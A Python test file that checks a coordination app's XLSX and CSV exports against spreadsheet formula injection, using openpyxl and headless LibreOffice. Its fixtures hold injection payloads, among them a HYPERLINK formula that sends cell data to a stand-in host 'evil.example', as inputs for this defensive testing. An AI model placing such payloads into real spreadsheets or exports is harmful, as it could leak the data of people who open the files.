"""Exports are data, never code (issue 13, item 1): text a field cadre chose is written so
spreadsheet apps show it as text. Checked by reading the files with openpyxl (no cell
of formula type, the text kept) and by converting them with LibreOffice headless (what
a spreadsheet app displays: the text, never a computed value or a link)."""

from __future__ import annotations

import csv
import io
import shutil
import subprocess
import uuid
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from tests.conftest import IN_CI, Phone
from tests.coordination import fixture_data as fx
from tests.coordination.conftest import web_login

PERIOD = "from=2026-01-01&to=2026-12-31"
HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'
SHORT_LINK = '=HYPERLINK("http://e.x/","点")'  # fits a district name (40 characters)
# Every start a spreadsheet app reads as a formula, plus an error code and full-width =.
PAYLOADS = [
    HYPERLINK,
    "=1+2",
    "+1+2",
    "-1+2",
    "@SUM(1,2)",
    "\t=1+2",
    "\r=1+2",
    "\uff1d1+2",
    "#REF!",
]
CSV_STARTS = ("=", "+", "-", "@", "\t", "\r", "\uff1d")


def _soffice() -> str:
    path = shutil.which("soffice") or shutil.which("libreoffice")
    if path is None:
        if IN_CI:
            pytest.fail("LibreOffice is required under CI=true (apt-get install libreoffice-calc)")
        pytest.skip("LibreOffice not installed (apt-get install libreoffice-calc-nogui)")
    return path


def _convert(src: Path, to: str, infilter: str | None = None) -> Path:
    """Convert with LibreOffice headless in a profile of its own; the converted file."""
    out = src.parent / f"out-{to.split(':')[0]}"
    args = [
        _soffice(),
        "--headless",
        f"-env:UserInstallation=file://{src.parent / 'lo-profile'}",
    ]
    if infilter:
        args.append(f"--infilter={infilter}")
    args += ["--convert-to", to, "--outdir", str(out), str(src)]
    subprocess.run(args, check=True, capture_output=True, timeout=120)
    converted = out / (src.stem + "." + to.split(":")[0])
    assert converted.exists(), f"LibreOffice did not convert {src.name}"
    return converted


def _push_hostile(client, db_session) -> None:  # noqa: ANN001
    """cadre_a names enterprises and writes problems with every payload."""
    phone = Phone(client, "cadre_a")
    mutations = []
    for i, text in enumerate(PAYLOADS):
        eid, vid = str(uuid.uuid4()), str(uuid.uuid4())
        mutations += [
            phone.mutation(
                "create",
                "enterprise",
                eid,
                {"name": text, "district_code": fx.A, "address": text},
            ),
            phone.mutation(
                "create",
                "visit",
                vid,
                {
                    "method": "symposium",
                    "visited_at": f"2026-05-{i + 1:02d}T10:00:00+08:00",
                    "district_code": fx.A,
                    "workers_met": 3,
                    "enterprise_id": eid,
                    "participants": ["cadre_a"],
                },
            ),
            phone.mutation(
                "create",
                "problem",
                str(uuid.uuid4()),
                {"visit_id": vid, "category": "wages", "description": text},
            ),
        ]
    r = phone.push(mutations)
    assert r.status_code == 200, r.json
    assert all(x["status"] == "applied" for x in r.json["results"]), r.json


def _same(a: str, b: str) -> bool:
    # XML turns a bare CR into LF when it is read back; the text is otherwise kept, or
    # stripped of its leading white space where the server trims the field (names).
    return a.replace("\r", "\n") in (b.replace("\r", "\n"), b.strip())


def _check_xlsx(data: bytes, payloads: list[str]) -> None:
    wb = load_workbook(io.BytesIO(data))  # not read-only: data types are visible
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
    formulas = [c.coordinate for c in cells if c.data_type == "f"]
    assert not formulas, f"formula cells at {formulas}"
    errors = [c.coordinate for c in cells if c.data_type == "e"]
    assert not errors, f"error-typed cells at {errors}"
    texts = [c.value for c in cells if isinstance(c.value, str)]
    for p in payloads:
        assert any(_same(t, p) for t in texts), f"{p!r} missing from the workbook"


def _check_csv(data: bytes, payloads: list[str]) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    cells = [c for row in rows for c in row]
    for c in cells:
        assert not c.startswith(CSV_STARTS), f"CSV cell {c!r} could start a formula"
    for p in payloads:
        kept = {v if not v.startswith(CSV_STARTS) else "'" + v for v in (p, p.strip())}
        assert kept & set(cells), f"{p!r} missing from the CSV"
    return rows


def _check_libreoffice(tmp_path: Path, name: str, data: bytes, payloads: list[str]) -> None:
    """What LibreOffice shows: the payload's text, never 3 or a link."""
    src = tmp_path / name
    src.write_bytes(data)
    if name.endswith(".xlsx"):
        # What LibreOffice displays, as it writes the sheet out to CSV (UTF-8): every text
        # cell shows its text where openpyxl reads it, never a computed value or a link.
        shown = _convert(src, "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false")
        lo_rows = list(csv.reader(io.StringIO(shown.read_text(encoding="utf-8"), newline="")))
        ws = load_workbook(io.BytesIO(data)).worksheets[0]
        seen = set()
        for r, row in enumerate(ws.iter_rows(values_only=True)):
            for c, value in enumerate(row):
                if isinstance(value, str):
                    assert lo_rows[r][c].replace("\r", "\n") == value.replace("\r", "\n"), (
                        f"LibreOffice shows {lo_rows[r][c]!r} for {value!r}"
                    )
                    seen.add(value)
        for p in payloads:
            assert any(_same(v, p) for v in seen), f"LibreOffice shows no {p!r}"
    else:
        # Imported as UTF-8 CSV with LibreOffice's defaults (formulas evaluated), then
        # saved: no cell became a formula, every prefixed cell is still its text.
        book = _convert(src, "xlsx", infilter="CSV:44,34,76,1")
        ws = load_workbook(book).worksheets[0]
        formulas = [c.coordinate for row in ws.iter_rows() for c in row if c.data_type == "f"]
        assert not formulas, f"LibreOffice made formulas of {formulas}"
        lo_rows = list(ws.iter_rows(values_only=True))
        rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
        for r, row in enumerate(rows):
            for c, value in enumerate(row):
                if value.startswith("'"):
                    shown = lo_rows[r][c]
                    assert isinstance(shown, str), f"LibreOffice read {value!r} as {shown!r}"
                    assert shown.replace("\r", "\n") == value.replace("\r", "\n")


@pytest.mark.parametrize("kind", ["visits", "problems", "enterprises"])
def test_record_exports_hold_text_not_formulas(client, db_session, campaign, kind, tmp_path):
    _push_hostile(client, db_session)
    web_login(client, "coord")
    payloads = PAYLOADS  # visits: the enterprise's name; problems: it and the description
    r = client.get(f"/export/{kind}.xlsx?{PERIOD}")
    assert r.status_code == 200
    _check_xlsx(r.get_data(), payloads)
    _check_libreoffice(tmp_path, f"{kind}.xlsx", r.get_data(), payloads)
    r = client.get(f"/export/{kind}.csv?{PERIOD}")
    assert r.status_code == 200
    _check_csv(r.get_data(), payloads)
    _check_libreoffice(tmp_path, f"{kind}.csv", r.get_data(), payloads)


def test_numbers_stay_numbers(client, db_session, campaign):
    """Only text is touched: counts are numbers in XLSX and bare digits in CSV."""
    web_login(client, "coord")
    wb = load_workbook(io.BytesIO(client.get(f"/export/visits.xlsx?{PERIOD}").get_data()))
    rows = list(wb.worksheets[0].iter_rows(min_row=2, values_only=True))
    assert rows and all(isinstance(row[8], int) for row in rows)
    body = client.get(f"/export/visits.csv?{PERIOD}").get_data().decode("utf-8-sig")
    parsed = list(csv.reader(io.StringIO(body)))
    assert all(row[8].isdigit() for row in parsed[1:])


def test_reference_names_in_dashboard_and_briefing_workbooks(client, db_session, campaign):
    """District names reach the dashboard export and the briefing workbooks too."""
    from server.models import DistrictUnit

    unit = db_session.scalar(select(DistrictUnit).where(DistrictUnit.code == fx.B))
    original, unit.name = unit.name, SHORT_LINK  # reference data: put back afterwards
    db_session.commit()
    try:
        web_login(client, "coord")
        r = client.get(f"/export/dashboard.xlsx?{PERIOD}")
        _check_xlsx(r.get_data(), [SHORT_LINK])
        _check_csv(client.get(f"/export/dashboard.csv?{PERIOD}").get_data(), [SHORT_LINK])
        q = {"period": "month", "start": "2026-03-01"}
        r = client.get("/briefings/city/xlsx", query_string=q)
        assert r.status_code == 200
        _check_xlsx(r.get_data(), [SHORT_LINK])
        r = client.get(f"/briefings/{fx.B}/xlsx", query_string=q)
        assert r.status_code == 200
        _check_xlsx(r.get_data(), [])
    finally:
        unit = db_session.scalar(select(DistrictUnit).where(DistrictUnit.code == fx.B))
        unit.name = original
        db_session.commit()


def test_control_characters_do_not_fail_an_xlsx_export(client, db_session, campaign):
    """A control character XML cannot carry is replaced, not a 500 for the whole file."""
    phone = Phone(client, "cadre_a")
    eid = str(uuid.uuid4())
    r = phone.push(
        [
            phone.mutation(
                "create", "enterprise", eid, {"name": "坏\x01字符\x1f公司", "district_code": fx.A}
            )
        ]
    )
    assert r.status_code == 200 and r.json["results"][0]["status"] == "applied", r.json
    web_login(client, "coord")
    r = client.get("/export/enterprises.xlsx")
    assert r.status_code == 200
    names = {
        row[1] for row in load_workbook(io.BytesIO(r.get_data())).active.iter_rows(values_only=True)
    }
    assert "坏\ufffd字符\ufffd公司" in names
